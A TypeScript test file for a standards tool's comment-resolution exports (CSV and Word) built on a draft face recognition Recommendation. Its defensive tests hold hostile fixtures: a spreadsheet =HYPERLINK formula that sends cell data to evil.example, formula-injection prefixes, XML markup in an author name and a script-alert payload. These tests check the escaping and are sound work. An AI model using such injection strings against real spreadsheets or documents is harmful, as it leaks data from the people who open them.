// The comment-resolution exports: rows (places, deleted text and clauses, order, observations),
// CSV (exact header, RFC 4180 quoting, BOM, formula injection) and Word (landscape, repeated
// header row, cell texts in order, hostile text).

import { describe, expect, it } from 'vitest';
import type { Block, Clause, Inline, Standard } from '../../clauses/model';
import type { Thread, ThreadAnchor, ThreadType } from '../../clauses/review';
import {
  COMMENT_COLUMNS,
  DELETED_CLAUSE,
  DELETED_TEXT,
  commentRows,
  commentsCsv,
  commentsDocx,
  describeFilter,
  filterThreads,
  rowCells,
  type CommentRow
} from '../../exporters/comments';
import { commentFilter } from '../../web/routes/api/standards/[id]/comments/comment-query';
import { assertWellFormed, readZip } from './itu-docx-read';
import { parseCsv } from '../helpers/csv';

const t = (text: string): Inline => ({ type: 'text', text });
const para = (id: string, text: string): Block => ({ type: 'paragraph', id, content: [t(text)] });
const clause = (id: string, role: Clause['role'], title: string, blocks: Block[], children: Clause[] = []): Clause => ({
  id,
  role,
  kind: null,
  title: [t(title)],
  blocks,
  children
});

function standard(): Standard {
  return {
    meta: {
      id: 's-comments',
      title: 'Requirements for face recognition services',
      designation: 'ITU-T F.FRS',
      series: '',
      studyGroup: 'SG16',
      convention: 'itu-t',
      requirementPattern: '',
      version: '0.3',
      date: ''
    },
    clauses: [
      clause('c-summary', 'summary', 'Summary', [para('p-sum', 'This Recommendation specifies services.')]),
      clause('c-scope', 'scope', 'Scope', [para('p-scope', 'This Recommendation covers matching.')]),
      clause('c-six', 'body', 'Functional requirements', [para('p-six', 'General text.')], [
        clause('c-match', 'body', 'Matching', [
          para('p-empty', ''),
          para('p-one', 'The service shall compare face templates.'),
          para('p-two', 'Thresholds apply to every comparison.'),
          { type: 'note', id: 'n-one', content: [para('p-n1', 'First note.')] },
          { type: 'note', id: 'n-two', content: [para('p-n2', 'Second note about matching.')] },
          { type: 'list', ordered: false, items: [[para('p-li1', 'first item')], [para('p-li2', 'second item')]] },
          {
            type: 'table',
            id: 't-thresholds',
            caption: [t('Match thresholds')],
            header: true,
            rows: [[[t('Mode')], [t('Threshold')]], [[t('Verification')], [t('0.8')]]]
          },
          { type: 'figure', id: 'f-arch', caption: [t('Architecture')], src: '', alt: 'Diagram' },
          { type: 'example', id: 'e-one', content: [para('p-ex', 'A camera at a gate.')] }
        ])
      ]),
      clause('c-annex', 'annex', 'Test procedures', [
        {
          type: 'table',
          id: 't-annex',
          caption: [t('Test vectors')],
          header: false,
          rows: [[[t('v1')], [t('pass')]]]
        }
      ])
    ]
  };
}

let serial = 0;
function thread(anchor: ThreadAnchor, over: Partial<Thread> & { type?: ThreadType } = {}): Thread {
  serial += 1;
  return {
    id: `th-${serial}`,
    standardId: 's-comments',
    anchor,
    type: 'technical',
    status: 'open',
    author: { id: 'u-ana', name: 'Ana Reviewer' },
    body: `Comment ${serial}`,
    proposedChange: '',
    createdAt: `2026-03-0${Math.min(serial, 9)}T10:00:00.000Z`,
    replies: [],
    ...over
  };
}

const NON_LATIN = '顔認識の閾値は高すぎる — Порог слишком высок, «très» عتبة';
const TRICKY = `Two points, "quoted", and\na second line\r\nand a third; ${NON_LATIN}`;

/** A thread on each kind of place, created out of document order. */
function threads(): Thread[] {
  return [
    thread({ clauseId: 'c-gone', blockId: 'p-gone', quote: 'old wording' }, { id: 'deleted-clause', createdAt: '2026-01-01T00:00:00Z' }),
    thread({ clauseId: 'c-match', blockId: 't-thresholds' }, { id: 'table', type: 'general', body: TRICKY, createdAt: '2026-03-05T00:00:00Z' }),
    thread(
      { clauseId: 'c-match', blockId: 'p-one', quote: 'shall compare' },
      { id: 'normative', proposedChange: 'Replace "compare" with "match".', createdAt: '2026-03-02T00:00:00Z' }
    ),
    thread({ clauseId: 'c-match', blockId: 'p-n2', quote: 'Second note' }, { id: 'note', type: 'editorial', createdAt: '2026-03-03T00:00:00Z' }),
    thread(
      { clauseId: 'c-scope' },
      {
        id: 'resolved',
        type: 'general',
        status: 'resolved',
        createdAt: '2026-02-01T08:00:00Z',
        author: { id: 'u-bo', name: 'Bo Member' },
        replies: [
          { id: 'r1', author: { id: 'u-ed', name: 'Eda Editor' }, body: 'Which matching?', createdAt: '2026-02-02T09:00:00Z' },
          { id: 'r2', author: { id: 'u-bo', name: 'Bo Member' }, body: 'One-to-one.\nAnd one-to-many.', createdAt: '2026-02-03T09:00:00Z' }
        ],
        resolution: { by: { id: 'u-ed', name: 'Eda Editor' }, at: '2026-02-04T12:30:00Z', note: 'Accepted; scope says 1:1 and 1:N.' }
      }
    ),
    thread({ clauseId: 'c-match', blockId: 'p-vanished', quote: 'gone sentence' }, { id: 'block-deleted', createdAt: '2026-03-06T00:00:00Z' }),
    thread({ clauseId: 'c-match', blockId: 'p-two', quote: 'words no longer there' }, { id: 'quote-deleted', createdAt: '2026-03-07T00:00:00Z' }),
    thread({ clauseId: 'c-annex', blockId: 't-annex' }, { id: 'annex-table', type: 'editorial', createdAt: '2026-03-01T00:00:00Z' })
  ];
}

const byId = (rows: CommentRow[]) => new Map(rows.map((r) => [r.threadId, r]));

describe('comment rows', () => {
  const rows = commentRows(standard(), threads());
  const row = byId(rows);

  it('orders rows by clause in document order, then by creation time, deleted clauses last', () => {
    expect(rows.map((r) => r.threadId)).toEqual([
      'resolved', // 1 Scope
      'normative', // 2.1, 03-02
      'note', // 03-03
      'table', // 03-05
      'block-deleted', // 03-06
      'quote-deleted', // 03-07
      'annex-table', // Annex A
      'deleted-clause'
    ]);
  });

  it('names the member, the clause with its current number and title, and the type code', () => {
    const r = row.get('normative')!;
    expect(r.member).toBe('Ana Reviewer');
    expect(r.clause).toBe('2.1 Matching');
    expect(r.type).toBe('te');
    expect(row.get('resolved')!.clause).toBe('1 Scope');
    expect(row.get('annex-table')!.clause).toBe('Annex A Test procedures');
    expect(row.get('note')!.type).toBe('ed');
    expect(row.get('table')!.type).toBe('ge');
  });

  it('names the paragraph, note, table and annex table with the quote as context', () => {
    // The empty placeholder paragraph is not counted: readers count printed paragraphs.
    expect(row.get('normative')!.location).toBe('Para. 1\n«shall compare»');
    expect(row.get('note')!.location).toBe('NOTE 2\n«Second note»');
    expect(row.get('table')!.location).toBe('Table 1');
    expect(row.get('annex-table')!.location).toBe('Table A.1');
    expect(row.get('resolved')!.location).toBe('');
  });

  it('labels list items, figures and examples', () => {
    const more = commentRows(standard(), [
      thread({ clauseId: 'c-match', blockId: 'p-li2' }, { id: 'li' }),
      thread({ clauseId: 'c-match', blockId: 'f-arch' }, { id: 'fig' }),
      thread({ clauseId: 'c-match', blockId: 'p-ex' }, { id: 'ex' }),
      thread({ clauseId: 'c-match', blockId: 'n-one' }, { id: 'n1' })
    ]);
    const m = byId(more);
    expect(m.get('li')!.location).toBe('Para. 4 (list item)');
    expect(m.get('fig')!.location).toBe('Figure 1');
    expect(m.get('ex')!.location).toBe('EXAMPLE');
    expect(m.get('n1')!.location).toBe('NOTE 1');
  });

  it('says when the commented text or the clause was deleted, keeping the quote', () => {
    expect(row.get('block-deleted')!.location).toBe(`${DELETED_TEXT}\n«gone sentence»`);
    expect(row.get('quote-deleted')!.location).toBe(`${DELETED_TEXT}\n«words no longer there»`);
    expect(row.get('block-deleted')!.clause).toBe('2.1 Matching');
    const gone = row.get('deleted-clause')!;
    expect(gone.clause).toBe(DELETED_CLAUSE);
    expect(gone.location).toBe(`${DELETED_TEXT}\n«old wording»`);
  });

  it('follows renumbering: the same thread reads with the clause number of the moment', () => {
    const std = standard();
    std.clauses.splice(1, 0, clause('c-new', 'body', 'New first clause', [para('p-new', 'Inserted.')]));
    expect(byId(commentRows(std, threads())).get('normative')!.clause).toBe('3.1 Matching');
  });

  it('lets the caller say from the live document whether the text still exists', () => {
    const states = new Map([
      ['normative', 'text-deleted' as const],
      ['quote-deleted', 'attached' as const]
    ]);
    const r = byId(commentRows(standard(), threads(), states));
    expect(r.get('normative')!.location).toBe(`${DELETED_TEXT}\n«shall compare»`);
    expect(r.get('quote-deleted')!.location).toBe('Para. 2\n«words no longer there»');
    // A clause that is gone from the standard is gone, whatever the caller says.
    expect(commentRows(standard(), threads(), new Map([['deleted-clause', 'attached' as const]])).at(-1)!.clause).toBe(
      DELETED_CLAUSE
    );
  });

  it('matches the quote across white space and into the following blocks', () => {
    const r = byId(
      commentRows(standard(), [
        thread({ clauseId: 'c-match', blockId: 'p-one', quote: 'face  templates.\nThresholds apply' }, { id: 'span' })
      ])
    );
    expect(r.get('span')!.location).toBe('Para. 1\n«face  templates.\nThresholds apply»');
  });

  it('keeps what users wrote verbatim', () => {
    expect(row.get('table')!.comment).toBe(TRICKY);
    expect(row.get('normative')!.proposedChange).toBe('Replace "compare" with "match".');
  });

  it('puts the resolution with who and when, then the replies in order', () => {
    expect(row.get('resolved')!.observations).toBe(
      [
        'Resolved by Eda Editor (2026-02-04): Accepted; scope says 1:1 and 1:N.',
        'Eda Editor (2026-02-02): Which matching?',
        'Bo Member (2026-02-03): One-to-one.\nAnd one-to-many.'
      ].join('\n')
    );
    expect(row.get('normative')!.observations).toBe('Open.');
    const reopened = commentRows(standard(), [
      thread(
        { clauseId: 'c-scope' },
        {
          reopened: { by: { id: 'u-bo', name: 'Bo Member' }, at: '2026-02-05T00:00:00Z' },
          resolution: { by: { id: 'u-ed', name: 'Eda Editor' }, at: '2026-02-04T00:00:00Z', note: '' }
        }
      )
    ]);
    expect(reopened[0]!.observations).toBe('Open (reopened by Bo Member (2026-02-05)).\nEarlier resolution by Eda Editor (2026-02-04).');
  });

  it('filters by status and type', () => {
    const all = threads();
    expect(filterThreads(all, { status: 'resolved' }).map((x) => x.id)).toEqual(['resolved']);
    expect(filterThreads(all, { status: 'open', type: 'editorial' }).map((x) => x.id).sort()).toEqual(['annex-table', 'note']);
    expect(filterThreads(all, { status: 'all' })).toHaveLength(all.length);
    expect(describeFilter({ status: 'all' })).toBe('all comments');
    expect(describeFilter({ status: 'open', type: 'technical' })).toBe('open te (technical) comments');
  });
});


describe('comments as CSV', () => {
  const rows = commentRows(standard(), threads());
  const csv = commentsCsv(rows);

  it('starts with a UTF-8 byte order mark and the exact header row', () => {
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const [header] = parseCsv(csv.slice(1));
    expect(header).toEqual([
      'Member',
      'Clause/Subclause',
      'Paragraph/Figure/Table',
      'Type of comment',
      'Comments',
      'Proposed change',
      'Observations/Resolution'
    ]);
    expect(header).toEqual([...COMMENT_COLUMNS]);
  });

  it('parses back to the same cells: commas, quotes, line breaks and non-Latin text intact', () => {
    const [, ...records] = parseCsv(csv.slice(1));
    expect(records).toEqual(rows.map(rowCells));
    expect(records.find((r) => r[4] === TRICKY)).toBeDefined();
    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });

  it('is only the header row when there are no comments', () => {
    expect(parseCsv(commentsCsv([]).slice(1))).toEqual([[...COMMENT_COLUMNS]]);
  });

  it('defuses cells a spreadsheet would run as formulas, and only those', () => {
    const hostile = thread(
      { clauseId: 'c-scope' },
      {
        author: { id: 'u-x', name: '@SUM(A1:A9)' },
        body: '=HYPERLINK("https://evil.example/?"&A1,"click")',
        proposedChange: '+1+2',
        replies: [],
        resolution: undefined
      }
    );
    const cells = [
      ['=1+1', "'=1+1"],
      ['-2+3', "'-2+3"],
      ['\tTAB', "'\tTAB"],
      ['\rCR', "'\rCR"],
      ['＝1+1', "'＝1+1"],
      ['a = b', 'a = b'],
      ['2 - 1', '2 - 1']
    ];
    const extra = cells.map(([body], i) => thread({ clauseId: 'c-scope' }, { id: `x${i}`, body }));
    const records = parseCsv(commentsCsv(commentRows(standard(), [hostile, ...extra])).slice(1)).slice(1);
    const first = records.find((r) => r[0] === "'@SUM(A1:A9)")!;
    expect(first).toBeDefined();
    expect(first[4]).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"click")');
    expect(first[5]).toBe("'+1+2");
    const bodies = records.map((r) => r[4]);
    for (const [, expected] of cells) expect(bodies).toContain(expected);
  });
});

/** Rows of the first table in document.xml, each a list of cell texts (paragraphs joined by "\n"). */
function tableRows(xml: string): { header: boolean; cells: string[] }[] {
  const table = /<w:tbl>[\s\S]*?<\/w:tbl>/.exec(xml)?.[0] ?? '';
  return [...table.matchAll(/<w:tr>[\s\S]*?<\/w:tr>|<w:tr [\s\S]*?<\/w:tr>/g)].map((m) => ({
    header: /<w:tblHeader\/>/.test(m[0]),
    cells: [...m[0].matchAll(/<w:tc>[\s\S]*?<\/w:tc>/g)].map((c) =>
      [...c[0].matchAll(/<w:p>[\s\S]*?<\/w:p>|<w:p [\s\S]*?<\/w:p>|<w:p\/>/g)]
        .map((p) =>
          [...p[0].matchAll(/<w:t(?: [^>]*)?>([^<]*)<\/w:t>|<w:tab\/>/g)]
            .map((x) => (x[0] === '<w:tab/>' ? '\t' : unescapeXml(x[1] ?? '')))
            .join('')
        )
        .join('\n')
    )
  }));
}

const unescapeXml = (s: string) =>
  s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&amp;/g, '&');

describe('comments as Word', () => {
  const std = standard();
  const rows = commentRows(std, threads());

  it('is a landscape A4 document whose XML parts are well-formed', async () => {
    const files = readZip(await commentsDocx(std, rows));
    for (const [name, xml] of files) if (name.endsWith('.xml') || name.endsWith('.rels')) assertWellFormed(name, xml);
    const doc = files.get('word/document.xml')!;
    const size = /<w:pgSz [^>]*\/>/.exec(doc)?.[0] ?? '';
    expect(size).toMatch(/w:w="16838"/);
    expect(size).toMatch(/w:h="11906"/);
    expect(size).toMatch(/w:orient="landscape"/);
  });

  it('heads the table with the designation and title, and repeats the header row on every page', async () => {
    const doc = readZip(await commentsDocx(std, rows, { scope: 'all comments' })).get('word/document.xml')!;
    const before = doc.slice(0, doc.indexOf('<w:tbl>'));
    expect(before).toContain('ITU-T F.FRS');
    expect(before).toContain('Requirements for face recognition services');
    expect(before).toContain('Comment resolution table, draft 0.3: 8 comments (all comments)');
    const table = tableRows(doc);
    expect(table[0]).toEqual({ header: true, cells: [...COMMENT_COLUMNS] });
    expect(table.slice(1).every((r) => !r.header)).toBe(true);
  });

  it('holds every row with its cells in order, line breaks as paragraphs', async () => {
    const doc = readZip(await commentsDocx(std, rows)).get('word/document.xml')!;
    const table = tableRows(doc).slice(1);
    expect(table.map((r) => r.cells)).toEqual(rows.map((r) => rowCells(r).map((c) => c.replace(/\r\n|\r/g, '\n'))));
  });

  it('says so when there are no comments', async () => {
    const doc = readZip(await commentsDocx(std, [])).get('word/document.xml')!;
    expect(tableRows(doc)).toHaveLength(1);
    expect(doc).toContain('No comments.');
  });

  it('stays well-formed with hostile text: control characters shown, bidi overrides isolated', async () => {
    const hostile = thread(
      { clauseId: 'c-scope', quote: 'x\u0000y' },
      {
        author: { id: 'u-x', name: '<w:p>Mallory</w:p> & co' },
        body: `nul\u0000 bell\u0007 esc\u001b \uFFFF lone\uD800 \u202Eunclosed override`,
        proposedChange: ']]><script>alert(1)</script>'
      }
    );
    const hostileStd = standard();
    hostileStd.meta.title = 'Title\u0001with control';
    const files = readZip(await commentsDocx(hostileStd, commentRows(hostileStd, [hostile])));
    for (const [name, xml] of files) if (name.endsWith('.xml') || name.endsWith('.rels')) assertWellFormed(name, xml);
    const doc = files.get('word/document.xml')!;
    // eslint-disable-next-line no-control-regex
    expect(doc).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/);
    const [, row] = tableRows(doc);
    expect(row!.cells[0]).toBe('<w:p>Mallory</w:p> & co');
    // The whole line holding the override is isolated, so the override ends with it.
    expect(row!.cells[4]).toBe('\u2068nul\u2400 bell\u2407 esc\u241B \uFFFD lone\uFFFD \u202Eunclosed override\u2069');
    expect(row!.cells[5]).toBe(']]><script>alert(1)</script>');
    expect(row!.cells[2]).toBe(`${DELETED_TEXT}\n«x\u2400y»`);
    expect(doc).toContain('Title\u2401with control');
  });
});

describe('the comment export query', () => {
  const q = (query: string) => commentFilter(new URLSearchParams(query));
  const refused = (query: string) => {
    try {
      q(query);
    } catch (error) {
      return { status: (error as { status: number }).status, message: (error as Error).message };
    }
    throw new Error(`"${query}" was accepted`);
  };

  it('defaults to every comment and accepts codes or names for the type', () => {
    expect(q('')).toEqual({ status: 'all' });
    expect(q('status=open&type=te')).toEqual({ status: 'open', type: 'technical' });
    expect(q('type=editorial')).toEqual({ status: 'all', type: 'editorial' });
    expect(q('status=resolved&type=all')).toEqual({ status: 'resolved' });
  });

  it('answers 400 naming an unknown parameter or value', () => {
    expect(refused('format=xlsx')).toEqual({
      status: 400,
      message: 'Unknown query parameter "format"; accepted: status, type.'
    });
    expect(refused('status=closed').message).toMatch(/^Unknown status "closed"; accepted: all, open, resolved\.$/);
    expect(refused('type=tech').message).toMatch(/^Unknown type "tech"; accepted: ge, te, ed, general, technical, editorial, all\.$/);
    expect(refused('status=open&status=resolved').status).toBe(400);
  });
});
